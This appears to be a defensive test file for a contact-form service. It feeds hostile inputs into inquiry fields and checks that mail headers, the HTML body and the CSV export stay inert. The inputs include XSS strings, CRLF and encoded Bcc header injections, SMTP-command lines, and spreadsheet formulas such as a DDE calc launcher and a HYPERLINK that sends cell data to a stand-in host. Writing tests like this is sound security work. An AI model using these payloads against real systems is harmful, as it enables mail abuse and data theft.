import { readFileSync } from "node:fs";
import { join } from "node:path";
import { expect, it } from "vitest";
import { FILL_TIME_FIELD, OWN_IDS } from "../../contract/forms.ts";
import { eventually } from "./harness/eventually.ts";
import { temporaryFolder } from "./harness/folders.ts";
import { type MailServer, startMailServer } from "./harness/mail-server.ts";
import { readInbox } from "./harness/process.ts";
import { INQUIRY, startTestService } from "./harness/service.ts";

const DESK = "desk@verdant-ledger.example";
const VISITOR = "asha.rao@steelworks.example";

/** What visitors may type into one line without being refused, meant to be more than text. */
const TRICKS = [
  `<script>alert("1")</script>`,
  `"><img src=x onerror=alert(1)>`,
  "{{constructor.constructor('x')()}} #{7*7} %s %0d%0aBcc: v@a.example",
  "=?utf-8?Q?Bcc:_victim=40a.example?=",
  "=?utf-8?B?DQpCY2M6IHZpY3RpbUBhLmV4YW1wbGU=?=",
  `Asha" <victim@a.example>, "B`,
  "Asha <victim@a.example>, other@a.example;",
  "a: victim@a.example, b@a.example;",
  "\\r\\nBcc: victim@a.example",
  '=HYPERLINK("a.example?"&A1)',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1,1)",
  "＝1+1",
  "नमस्ते <b>दुनिया</b>",
];

async function settled(mail: MailServer, count: number) {
  await eventually(() => mail.received.length === count);
  return mail.to(DESK);
}

it.each(TRICKS)(
  "%s in every line of an inquiry → arrives as that text, and goes to nobody else",
  async (trick) => {
    const mail = await startMailServer();
    const service = await startTestService({ DATA_DIR: temporaryFolder(), SMTP_URL: mail.url });
    const cut = trick.slice(0, 40);
    const fields = {
      ...INQUIRY,
      name: trick,
      company: trick,
      subject: trick,
      phone: cut,
      message: trick,
    };
    /** Typed by hand, so that it does not count as an advertisement. */
    expect((await service.send({ ...fields, [FILL_TIME_FIELD]: "41250" })).status).toBe(200);
    const [notice] = await settled(mail, 2);

    expect(mail.received.flatMap((one) => one.recipients).sort()).toEqual([VISITOR, DESK].sort());
    const inHeaders = trick.replaceAll("=?", "= ?");
    expect(notice?.subject).toBe(`Inquiry: ${inHeaders} (${inHeaders}, ${inHeaders})`);
    expect(notice?.replyTo).toEqual([{ name: inHeaders, address: INQUIRY.email }]);
    expect([notice?.cc, notice?.bcc]).toEqual([undefined, undefined]);
    for (const label of ["Name", "Subject", "Company / Institution", "Message"]) {
      expect(notice?.text).toContain(`${label}: ${trick}\n`);
    }
    expect(notice?.html).not.toMatch(/<(script|img|b)\b/i);
    expect(decoded(notice?.html ?? "")).toContain(trick);

    const [acknowledgement] = mail.to(VISITOR);
    for (const part of [acknowledgement?.subject, acknowledgement?.text, acknowledgement?.html]) {
      expect(part).not.toMatch(/victim|script|onerror|HYPERLINK|calc/);
    }
  },
);

const ENTITIES: Record<string, string> = { amp: "&", lt: "<", gt: ">", quot: '"', "#39": "'" };
const decoded = (html: string) =>
  html.replaceAll(/&(#?\w+);/g, (whole, name) => ENTITIES[name] ?? whole);

it("a message that looks like the end of a mail, or like one more → arrives whole", async () => {
  const mail = await startMailServer();
  const service = await startTestService({ DATA_DIR: temporaryFolder(), SMTP_URL: mail.url });
  const message = [
    "Hello",
    ".",
    "..",
    "",
    "MAIL FROM:<a@a.example>",
    "RCPT TO:<victim@a.example>",
    "From here on",
    "--",
    "Content-Type: text/html",
    "",
    "x".repeat(3_000),
    "end",
  ].join("\n");
  await service.send({ ...INQUIRY, message });
  const [notice] = await settled(mail, 2);
  expect(notice?.text).toContain(message);
  expect(notice?.attachments).toEqual([]);
  expect(mail.received.flatMap((one) => one.recipients).sort()).toEqual([VISITOR, DESK].sort());
});

it("an address that is odd but valid → gets its mail as the one recipient", async () => {
  const mail = await startMailServer();
  const service = await startTestService({ DATA_DIR: temporaryFolder(), SMTP_URL: mail.url });
  const odd = [
    "=cmd@a.example",
    "+plus@a.example",
    "-dash@a.example",
    "a'b@a.example",
    "{x}|y@a.example",
    "%41@a.example",
  ];
  for (const email of odd) await service.send({ email }, OWN_IDS.checklistTemplateId);
  await settled(mail, 2 * odd.length);
  const recipients = mail.received
    .flatMap((one) => one.recipients)
    .filter((address) => address !== DESK);
  expect(recipients.sort()).toEqual(odd.toSorted());
});

it("the same texts exported → cells a spreadsheet shows and does not run", async () => {
  const settings = { DATA_DIR: temporaryFolder() };
  const service = await startTestService({ ...settings, RATE_LIMIT_PER_MINUTE: "0" });
  for (const trick of TRICKS) {
    await service.send({
      ...INQUIRY,
      name: trick,
      company: trick,
      subject: trick,
      phone: trick.slice(0, 40),
      message: `${trick}\n=second\tline`,
      email: "=1+1@a.example",
    });
  }
  const file = join(settings.DATA_DIR, "inbox.csv");
  expect((await readInbox(settings, "export", "--csv", file)).code).toBe(0);
  const [header = [], ...rows] = readCsv(readFileSync(file, "utf8"));
  expect(rows).toHaveLength(TRICKS.length);
  expect(rows.flat().filter((cell) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell))).toEqual([]);
  const column = (name: string) => rows.map((row) => row[header.indexOf(name)]?.replace(/^'/, ""));
  for (const name of ["name", "company", "subject"])
    expect(column(name).sort()).toEqual(TRICKS.toSorted());
  expect(column("message").sort()).toEqual(TRICKS.map((trick) => `${trick}\n=second\tline`).sort());
});

/** RFC 4180, as a spreadsheet reads it. */
function readCsv(text: string): string[][] {
  const cells = [...text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)];
  const rows: string[][] = [[]];
  for (const [, quoted, bare = "", end] of cells) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? bare);
    if (end === "\r\n") rows.push([]);
  }
  expect(cells.map(([whole]) => whole).join("")).toBe(text);
  return rows.slice(0, -1);
}
